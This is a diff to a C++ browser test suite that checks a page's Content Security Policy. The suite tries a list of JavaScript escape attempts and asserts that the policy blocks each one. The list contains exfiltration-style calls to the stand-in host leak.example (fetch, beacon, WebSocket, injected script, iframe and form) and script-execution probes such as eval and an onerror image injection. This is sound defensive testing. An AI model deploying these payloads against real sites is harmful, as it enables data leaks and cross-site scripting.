@@ -3,53 +3,49 @@
 #include <fmt/core.h>
 
 #include <algorithm>
+#include <array>
 #include <support/content.hpp>
 
 namespace stagepass::tests {
 namespace {
 
 /// Ways in which a page reaches a network or runs a text, each as an expression for a script.
-const std::vector<std::string> kAttempts = {
+constexpr auto kAttempts = std::to_array<const char*>({
     "fetch('http://leak.example/fetch').catch(() => 0)",
     "(new Image()).src = 'http://leak.example/image'",
+    "eval('window.harmed = 1')",
     "navigator.sendBeacon('http://leak.example/beacon', 'x')",
     "new WebSocket('ws://leak.example/socket')",
     "new EventSource('http://leak.example/events')",
     "new Worker('http://leak.example/worker')",
-    "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: "
-    "'http://leak.example/style' }))",
-    "document.body.append(Object.assign(document.createElement('iframe'), { src: "
-    "'http://leak.example/frame' }))",
-    "document.body.append(Object.assign(document.createElement('form'), { action: "
-    "'http://leak.example/form' })), document.body.lastChild.submit()",
-    "document.body.append(Object.assign(document.createElement('script'), { src: "
-    "'http://leak.example/script' }))",
-    "document.body.append(Object.assign(document.createElement('script'), { text: 'window.harmed = "
-    "1' }))",
-    "document.body.innerHTML = '<img src=x onerror=\"window.harmed = 1\">'",
+    "append('link', { rel: 'stylesheet', href: 'http://leak.example/style' })",
+    "append('iframe', { src: 'http://leak.example/frame' })",
+    "append('form', { action: 'http://leak.example/form' }).submit()",
+    "append('script', { src: 'http://leak.example/script' })",
+    "append('script', { text: 'window.harmed = 1' })",
+    "append('base', { href: 'http://leak.example/' })",
+    "document.body.innerHTML = '<img src=x onerror=window.harmed=1>'",
     "document.body.setAttribute('onclick', 'window.harmed = 1'), document.body.click()",
-    "eval('window.harmed = 1')",
     "setTimeout('window.harmed = 1')",
-    "document.head.append(Object.assign(document.createElement('base'), { href: "
-    "'http://leak.example/' }))",
-};
+});
 
 /// Tries one, and waits until the page has got to know what came of it.
-std::string attempt(const std::string& what) {
-  return R"js(return (async () => {
-      const objection = new Promise((resolve) => {
-        document.addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective), { once: true });
-      });
+std::string attempt(const char* what) {
+  return fmt::format(R"js(return (async () => {{
+      const append = (name, members) => document.body.appendChild(Object.assign(document.createElement(name), members));
+      const objection = new Promise((resolve) => {{
+        document.addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective), {{ once: true }});
+      }});
       // Later, for the tools of a developer may do what the page may not.
-      setTimeout(() => {)js" +
-         what + R"js(; });
+      setTimeout(() => {{ {}; }});
       return await objection;
-    })())js";
+    }})())js",
+                     what);
 }
 
 TEST_CASE_METHOD(PageFixture, "page: its policy stops every way out even for a script that got in",
                  "[page]") {
-  for (const std::string& what : kAttempts) {
+  for (const char* what : kAttempts) {
     INFO(what);
     browser_.open(address());
     CHECK_FALSE(browser_.run(attempt(what)).get<std::string>().empty());
@@ -63,12 +59,12 @@ TEST_CASE_METHOD(PageFixture, "page: without its policy the same attempts reach 
                  "[page]") {
   write_content(browser_.folder() / "free.html", "<!doctype html><title>free</title><body>");
   browser_.open("file://" + (browser_.folder() / "free.html").string());
-  browser_.run("return " + kAttempts.at(0) + ".then(() => 1)");
+  browser_.run(fmt::format("return {}.then(() => 1)", kAttempts[0]));
   browser_.run(
       "return new Promise((resolve) => { const image = new Image();"
       " image.onerror = image.onload = () => resolve(1); image.src = 'http://leak.example/image'; "
       "})");
-  browser_.run(kAttempts.at(13));
+  browser_.run(kAttempts[2]);
   CHECK(browser_.run("return 'harmed' in window") == true);
   const auto arrived = browser_.arrived();
   for (const char* name : {"fetch", "image"}) {
@@ -88,7 +84,7 @@ TEST_CASE_METHOD(PageFixture, "page: it works from a web server and asks that fo
   INFO(Json(arrived).dump());
   REQUIRE(arrived.size() == arrived_before_ + 1);
   CHECK(arrived.back().starts_with("GET http://localhost/open.html "));
-  CHECK(browser_.console() == std::vector<std::string>());
+  CHECK(Json(browser_.console()) == Json::array());
 }
 
 TEST_CASE_METHOD(PageFixture, "page: it refuses to work where anybody could have changed it",
